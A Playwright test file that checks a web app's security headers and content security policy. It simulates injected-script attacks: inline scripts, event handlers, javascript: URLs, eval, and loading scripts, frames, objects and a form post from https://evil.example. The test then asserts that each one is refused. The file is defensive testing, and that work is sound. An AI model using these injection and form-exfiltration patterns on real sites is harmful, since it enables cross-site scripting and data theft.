import { expect, test } from './fixtures.ts';

/** Tries what an injected script could do. */
async function attemptViolations(): Promise<void> {
  const add = (name: string, properties: object, text = '') => {
    const element = Object.assign(document.createElement(name), properties);
    element.textContent = text;
    document.body.append(element);
    return element;
  };
  const script = 'document.documentElement.dataset.ran = "yes"';
  add('script', {}, script);
  add('button', {}).setAttribute('onclick', script);
  document.querySelector<HTMLElement>('[onclick]')?.click();
  add('a', { href: `javascript:${script}` }).click();
  // oxlint-disable-next-line typescript/no-implied-eval -- the policy has to refuse it
  setTimeout(script);
  add('script', { src: 'https://evil.example/a.js' });
  add('link', { rel: 'stylesheet', href: 'https://evil.example/a.css' });
  add('iframe', { src: 'https://evil.example/' });
  add('object', { data: 'https://evil.example/a.swf' });
  add('base', { href: 'https://evil.example/' });
  await fetch('https://evil.example/').catch(() => undefined);
}

function sendAway(): void {
  const form = document.createElement('form');
  Object.assign(form, { action: 'https://evil.example/', method: 'post' });
  document.body.append(form);
  form.submit();
}

// E42, E43, E44
test('the content security policy refuses what an injected script could do', async ({ page, watched }) => {
  expect((await page.goto('/about'))?.headers()).toMatchObject({
    'content-security-policy': expect.stringMatching(
      /default-src 'none'; script-src 'self' https:\/\/apis\.google\.com; .*object-src 'none'; base-uri 'none'; .*frame-ancestors 'none'$/,
    ),
    'cross-origin-opener-policy': 'same-origin-allow-popups',
    'x-content-type-options': 'nosniff',
    'permissions-policy': 'camera=(self), display-capture=(), geolocation=(), microphone=(), payment=(), usb=()',
  });
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('About');
  await page.evaluate(attemptViolations);
  const violations = [
    'script-src-elem inline',
    'script-src-attr inline',
    'script-src eval',
    'script-src-elem https://evil.example/a.js',
    'style-src-elem https://evil.example/a.css',
    'frame-src https://evil.example',
    'object-src https://evil.example',
    'base-uri https://evil.example/',
    'connect-src https://evil.example/',
  ];
  for (const violation of violations) {
    await expect.poll(() => watched.violations).toContain(`Refused by the policy: ${violation}`);
  }
  await expect(page.locator('html')).not.toHaveAttribute('data-ran');
  await page.evaluate(sendAway);
  await expect.poll(() => watched.violations).toContain('Refused by the policy: form-action https://evil.example/');
  expect(watched.foreignRequests).toEqual([]);
  watched.violations.length = 0;
});
